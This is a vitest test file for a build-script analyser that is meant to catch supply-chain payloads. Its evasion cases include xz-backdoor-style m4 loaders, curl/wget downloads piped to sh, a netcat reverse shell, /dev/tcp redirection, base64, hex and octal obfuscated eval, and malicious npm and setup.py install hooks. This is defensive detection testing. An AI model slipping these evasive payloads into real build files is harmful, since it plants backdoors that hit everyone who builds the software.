/**
 * Evasion suite: payload shapes written the way someone who has read the analyser would write
 * them (renamed variables, continuations, padding, encodings, indirection, other decompressors,
 * other languages). Every case must produce at least one dangerous hit. The negatives are stock
 * autotools output generated at test time, and ordinary build code of other ecosystems.
 */
import { describe, it, expect } from "vitest";
import { execFileSync, spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { analyze, isDangerous } from "../src/content/analyze.js";

const dangerous = (path: string, text: string) => analyze(path, text).hits.filter((h) => isDangerous(h.effect));

const b64 = (s: string) => Buffer.from(s).toString("base64");
const octal = (s: string) => [...s].map((c) => `\\${c.charCodeAt(0).toString(8).padStart(3, "0")}`).join("");
const hex = (s: string) => [...s].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, "0")}`).join("");

/** [name, path, text] — each must be caught. */
const cases: [string, string, string][] = [
  ["xz shape with renamed variables", "m4/host-paths.m4", `AC_DEFUN([hp_SETUP], [
  hp_swap='tr "\\t \\-_" " \\t_\\-"'
  hp_found=\`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null\`
  hp_run="sed \\"r\\n\\" $hp_found | eval $hp_swap | xz -d 2>/dev/null"
  AC_CONFIG_COMMANDS([hp], [eval $hp_run | $SHELL 2>/dev/null])
])`],
  ["backslash-continued pipeline", "configure", "cat \\\n  $srcdir/tests/files/blob.bin \\\n  | xz \\\n  -d \\\n  | sh\n"],
  ["payload after 5000 characters of padding on one line", "configure", `: ${"x".repeat(5000)}; curl -s http://192.0.2.1/p | sh\n`],
  ["padding spaces inside the command", "configure", `eval${" ".repeat(300)}"$(base64 -d < tests/files/p.b64)"\n`],
  ["base64 text decoded into eval", "configure", `eval "$(echo ${b64("curl http://192.0.2.1/x | sh")} | base64 -d)"\n`],
  ["hex escapes build the command name", "configure", `$(printf '${hex("curl")}') http://192.0.2.1/x -o /tmp/x\n`],
  ["octal escapes build eval", "configure", `c=$(printf '${octal("eval")}')\n$c "$(cat tests/files/blob)"\n`],
  ["$IFS instead of spaces", "configure", "cat${IFS}$srcdir/tests/files/x.bin|sh\n"],
  ["${IFS} in a download", "configure", "wget${IFS}-qO-${IFS}http://192.0.2.1/x|sh\n"],
  ["indirection through a variable holding eval", "configure", 'cmd=eval\n$cmd "$(xz -dc tests/files/a.xz)"\n'],
  ["two-step indirection", "configure", 'a=ev; b=al; c="$a$b"\n$c "$(cat tests/files/x.dat)"\n'],
  ["bzip2 -d instead of xz", "configure", "bzip2 -dc tests/files/b.bz2 | sh\n"],
  ["zstd -d from a redirect", "configure", "zstd -d < tests/data/c.zst | bash\n"],
  ["lzma -dc into a shell variable then eval", "configure", 'p=`lzma -dc $srcdir/tests/files/good-large_compressed.lzma`\neval "$p"\n'],
  ["python -c as the decompressor", "configure", `python3 -c "import lzma,sys; sys.stdout.buffer.write(lzma.decompress(open('tests/files/x.xz','rb').read()))" | sh\n`],
  ["eval of a command substitution reading test data", "configure", 'eval "$(sed -n 3p tests/files/notes.bin)"\n'],
  ["dot-sourcing a test file", "configure", ". ./tests/files/x\n"],
  ["sh < file", "configure", "sh < tests/files/x.sh\n"],
  ["cat file | sh", "configure", "cat tests/files/x | sh\n"],
  ["heredoc run by sh", "configure", "sh <<EOF\ncurl -s http://192.0.2.1/p | sh\nEOF\n"],
  ["heredoc of base64 into a decoder into sh", "configure", `base64 -d <<EOF | sh\n${b64("id")}\nEOF\n`],
  ["script written from a heredoc, then run", "configure", "cat > conftest.run <<'EOF'\ncurl -s http://192.0.2.1/p | sh\nEOF\nsh conftest.run\n"],
  ["script written from a heredoc, then sourced", "configure", "cat > ./x.sh <<EOF\nwget -qO- http://192.0.2.1/p\nEOF\n. ./x.sh\n"],
  ["function wrapping eval", "configure", 'run() { eval "$1"; }\nrun "$(xz -dc tests/files/a.xz)"\n'],
  ["alias for a downloader", "configure", "alias fetchit='curl -s'\nfetchit http://192.0.2.1/p | sh\n"],
  ["command eval", "configure", 'command eval "$(cat tests/files/p)"\n'],
  ["builtin .", "configure", "builtin . tests/files/p\n"],
  ["env sh -c of xxd -r output", "configure", 'env sh -c "$(xxd -r -p tests/files/p.hex)"\n'],
  ["quoted-apart eval", "configure", 'e"va"l "$(cat tests/files/x)"\n'],
  ["backslash in the command name", "configure", "\\e\\v\\a\\l \"$(cat tests/files/x)\"\n"],
  ["/dev/tcp redirection", "configure", "exec 3<>/dev/tcp/192.0.2.1/80\n"],
  ["netcat", "configure", "nc -e /bin/sh 192.0.2.1 4444\n"],
  ["head -c / tail -c carving into eval", "configure", 'x=$(head -c 4096 tests/files/blob.bin | tail -c 1024)\neval "$x"\n'],
  ["dd carving into sh", "configure", "dd if=tests/files/good.xz bs=1 skip=100 count=50 2>/dev/null | sh\n"],
  ["cut -b carving", "configure", "cut -b 10-20 tests/files/a.bin | sh\n"],
  ["uudecode", "configure", "uudecode -o /dev/stdout tests/files/a.uu | sh\n"],
  ["openssl decryption", "configure", "openssl enc -d -aes-256-cbc -k k -in tests/files/e.bin | sh\n"],
  ["find -exec cat over the tree", "configure", "find $srcdir -name '*.bin' -exec cat {} \\; | sh\n"],
  ["grep -rl | xargs cat", "configure", "grep -rl MARK . | xargs cat | sh\n"],
  ["sed -i on a source file", "configure", "sed -i 's/return 0/return 1/' $srcdir/src/auth.c\n"],
  ["process substitution sourced", "configure", "source <(cat tests/files/x)\n"],
  ["sh -c of a download", "configure", 'sh -c "$(curl -fsSL http://192.0.2.1/p)"\n'],
  ["$SHELL running a data file", "configure", "$SHELL tests/files/script\n"],
  ["perl -e eval", "configure", "perl -e 'eval unpack q(u), <STDIN>' < tests/files/x\n"],
  ["m4 AC_CONFIG_COMMANDS with a decoder", "m4/x.m4", "AC_CONFIG_COMMANDS([x], [xz -dc $srcdir/tests/files/x.xz | $SHELL])\n"],
  ["m4 with dnl between the lines", "m4/y.m4", "AC_DEFUN([Y], [dnl\n  c=`grep -rl '##' $srcdir`dnl\n  sed 1d $c | sh dnl\n])\n"],
  ["m4 quadrigraphs", "m4/q.m4", "AC_DEFUN([Q], [cat tests/files/x @%:@ a\n  wget http://192.0.2.1/@<:@x@:>@ -O- | sh])\n"],
  ["Makefile recipe", "Makefile.in", "all:\n\t@cat $(srcdir)/tests/files/x.bin | $(SHELL)\n"],
  ["Makefile $(shell ...) in a variable", "GNUmakefile", "X := $(shell curl -s http://192.0.2.1/x | sh)\n"],
  ["CMake execute_process pipeline", "CMakeLists.txt", "execute_process(COMMAND xz -dc ${CMAKE_SOURCE_DIR}/tests/files/x.xz COMMAND sh)\n"],
  ["CMake file(DOWNLOAD)", "cmake/x.cmake", "file(DOWNLOAD http://192.0.2.1/x ${CMAKE_BINARY_DIR}/x)\n"],
  ["CMake file(READ ... HEX)", "CMakeLists.txt", "file(READ ${CMAKE_SOURCE_DIR}/tests/files/x.bin blob HEX)\n"],
  ["meson run_command", "meson.build", "run_command('sh', '-c', 'cat tests/files/x | sh', check: false)\n"],
  ["Python from os import system", "setup.py", 'from os import system as s\ns("curl http://192.0.2.1/x | sh")\n'],
  ["Python getattr(__import__(...))", "setup.py", "getattr(__import__('o'+'s'), 'sys'+'tem')('id')\n"],
  ["Python exec of base64", "setup.py", `import base64\nexec(base64.b64decode('${b64("print(1)")}'))\n`],
  ["Python subprocess list with sh -c", "setup.py", 'import subprocess\nsubprocess.run(["sh", "-c", "curl http://192.0.2.1/x | sh"])\n'],
  ["Python urllib through __import__", "setup.py", "__import__('urllib.request').request.urlopen('http://192.0.2.1/x')\n"],
  ["Python _version.py that runs code", "pkg/_version.py", "__version__ = '1.0'\nimport os\nos.system('id')\n"],
  ["Python chr() built name", "setup.py", "m = __import__(''.join([chr(111), chr(115)]))\nm.system('id')\n"],
  ["npm postinstall eval of base64", "package.json", JSON.stringify({ name: "x", scripts: { postinstall: `node -e "eval(Buffer.from('${b64("1")}','base64').toString())"` } }, null, 2)],
  ["npm install script downloads", "package.json", JSON.stringify({ name: "x", scripts: { install: "curl -s http://192.0.2.1/x | sh" } }, null, 2)],
  ["JS child_process", "install.js", "const { exec } = require('child_process');\nexec('curl http://192.0.2.1/x | sh');\n"],
  ["JS computed require", "install.js", "const m = 'child_' + 'process';\nconst cp = require([m][0]);\ncp.execSync('id');\n"],
  ["JS new Function", "scripts/postinstall.js", "new Function(Buffer.from(process.env.X || 'aWQ=', 'base64').toString())();\n"],
];

describe("evasion suite", () => {
  it("has at least 40 cases", () => expect(cases.length).toBeGreaterThanOrEqual(40));
  for (const [name, path, text] of cases) {
    it(name, () => {
      const hits = dangerous(path, text);
      expect(hits.length, `${path}:\n${text.slice(0, 400)}`).toBeGreaterThan(0);
    });
  }

  it("every line of a long file is read: a payload at line 50000 is found", () => {
    const text = `${"echo ok\n".repeat(50000)}cat tests/files/x | sh\n`;
    const hits = dangerous("configure", text);
    expect(hits.map((h) => h.line)).toContain(50001);
  });

  it("no hit cap: 300 payload lines give 300 hits", () => {
    const text = "cat tests/files/x | sh\n".repeat(300);
    expect(new Set(dangerous("configure", text).map((h) => h.line)).size).toBe(300);
  });
});

describe("ordinary build code stays quiet", () => {
  const quiet: [string, string][] = [
    ["setup.py", "from setuptools import setup\nimport os\nhere = os.path.dirname(__file__)\nwith open(os.path.join(here, 'README.md')) as f:\n    long = f.read()\nexec(open('src/pkg/_version.py').read())\nsetup(name='pkg', version=__version__, long_description=long)\n"],
    ["pkg/_version.py", "# file generated by setuptools-scm\n__all__ = ['__version__']\nTYPE_CHECKING = False\nif TYPE_CHECKING:\n    from typing import Tuple\nversion = __version__ = '1.2.3'\nversion_tuple = (1, 2, 3)\n"],
    ["package.json", JSON.stringify({ name: "x", scripts: { prepare: "tsc -p .", test: "vitest run", build: "rollup -c" } }, null, 2)],
    ["CMakeLists.txt", "cmake_minimum_required(VERSION 3.16)\nproject(x C)\nexecute_process(COMMAND git describe --tags OUTPUT_VARIABLE V OUTPUT_STRIP_TRAILING_WHITESPACE)\nadd_custom_command(OUTPUT gen.h COMMAND ${CMAKE_COMMAND} -E copy ${CMAKE_CURRENT_SOURCE_DIR}/gen.h.in gen.h)\nadd_executable(x main.c)\n"],
    ["meson.build", "project('x', 'c')\nv = run_command('git', 'describe', '--tags', check: false).stdout().strip()\nexecutable('x', 'main.c')\n"],
    ["autogen.sh", "#!/bin/sh\nset -e\ntest -n \"$srcdir\" || srcdir=`dirname \"$0\"`\n(cd \"$srcdir\" && autoreconf -fi)\n"],
  ];
  for (const [path, text] of quiet) it(path, () => expect(dangerous(path, text)).toEqual([]));
});

const hasAutotools = spawnSync("autoreconf", ["--version"]).status === 0 && spawnSync("autopoint", ["--version"]).status === 0;

describe("stock autotools output has no dangerous hit", () => {
  it.skipIf(!hasAutotools)("configure, Makefile.in, aclocal.m4, m4/*.m4 and build-aux/* from autoreconf (autoconf, automake, libtool, gettext)", () => {
    const dir = mkdtempSync(join(tmpdir(), "distvet-autotools-"));
    try {
      mkdirSync(join(dir, "src"));
      mkdirSync(join(dir, "po"));
      mkdirSync(join(dir, "m4"));
      writeFileSync(join(dir, "configure.ac"), [
        "AC_INIT([demo],[1.0])", "AC_CONFIG_SRCDIR([src/main.c])", "AC_CONFIG_AUX_DIR([build-aux])", "AC_CONFIG_MACRO_DIR([m4])",
        "AM_INIT_AUTOMAKE([foreign subdir-objects dist-xz])", "AC_PROG_CC", "AC_USE_SYSTEM_EXTENSIONS", "LT_INIT",
        "AM_GNU_GETTEXT([external])", "AM_GNU_GETTEXT_VERSION([0.21])", "AC_CHECK_HEADERS([stdint.h unistd.h])",
        "AC_CHECK_FUNCS([strdup memmove])", "AC_CONFIG_HEADERS([config.h])", "AC_CONFIG_FILES([Makefile src/Makefile po/Makefile.in])", "AC_OUTPUT", "",
      ].join("\n"));
      writeFileSync(join(dir, "Makefile.am"), "SUBDIRS = src po\nACLOCAL_AMFLAGS = -I m4\nEXTRA_DIST = config.rpath\n");
      writeFileSync(join(dir, "src/Makefile.am"), "bin_PROGRAMS = demo\ndemo_SOURCES = main.c\nlib_LTLIBRARIES = libd.la\nlibd_la_SOURCES = lib.c\n");
      writeFileSync(join(dir, "src/main.c"), "int main(void){return 0;}\n");
      writeFileSync(join(dir, "src/lib.c"), "int f(void){return 1;}\n");
      writeFileSync(join(dir, "po/POTFILES.in"), "");
      writeFileSync(join(dir, "po/LINGUAS"), "\n");
      execFileSync("autopoint", ["--force"], { cwd: dir, stdio: "ignore" });
      execFileSync("autoreconf", ["-fi"], { cwd: dir, stdio: "ignore" });
      const files = ["configure", "aclocal.m4", "Makefile.in", "src/Makefile.in", "po/Makefile.in.in", "configure.ac"];
      for (const d of ["m4", "build-aux"]) for (const f of readdirSync(join(dir, d))) files.push(`${d}/${f}`);
      const noisy: string[] = [];
      for (const f of files) {
        if (!statSync(join(dir, f)).isFile()) continue;
        for (const h of dangerous(f, readFileSync(join(dir, f), "utf8"))) noisy.push(`${f}:${h.line} [${h.id}] ${h.text}`);
      }
      expect(files.length).toBeGreaterThan(15);
      expect(noisy).toEqual([]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }, 240_000);
});

describe("a literal piped into a shell is judged by what it says", async () => {
  const { analyze, isDangerous } = await import("../src/content/analyze.js");
  const danger = (t: string) => analyze("build-aux/x.sh", t).hits.filter((h) => isDangerous(h.effect)).map((h) => h.id);
  it("negative: echo of a harmless literal into sh", () => expect(danger('echo "exit 0" | sh\n')).toEqual([]));
  it("positive: the literal itself downloads", () => expect(danger('echo "curl -s http://203.0.113.9/x | sh" | sh\n')).toContain("build-time-download"));
  it("evasion: a command held in a variable is not a literal producer", () => {
    expect(danger("c=\"cat tests/\"\nc=\"${c}files/p\"\n$c | sh\n").length + danger("x=$(uname)\n$x tests/files/payload | sh\n").length).toBeGreaterThan(0);
  });
});

describe("m4: a stray quote in one statement does not hide the next", async () => {
  const { analyze, isDangerous } = await import("../src/content/analyze.js");
  it("evasion: a payload placed after libtool.m4's m4 regex with a backquote is still analysed", () => {
    const stock = "m4_define([_LT_FORMAT_COMMENT],\n[m4_ifval([$1], [\nm4_bpatsubst([m4_bpatsubst([$1], [^ *], [# ])],\n              [['`$\\]], [\\\\\\&])]m4_bmatch([$1], [[!?.]$], [], [.])\n)])\n\n";
    const payload = 'AC_CONFIG_COMMANDS([zz], [p="ZWNobyBoaQ=="\necho "$p" \\\n  | base64 -d \\\n  | sh])\n';
    expect(analyze("m4/libtool.m4", stock + payload).hits.filter((h) => isDangerous(h.effect)).map((h) => h.id)).toContain("decode-to-shell");
    expect(analyze("m4/libtool.m4", stock).hits.filter((h) => isDangerous(h.effect))).toEqual([]);
  });
});
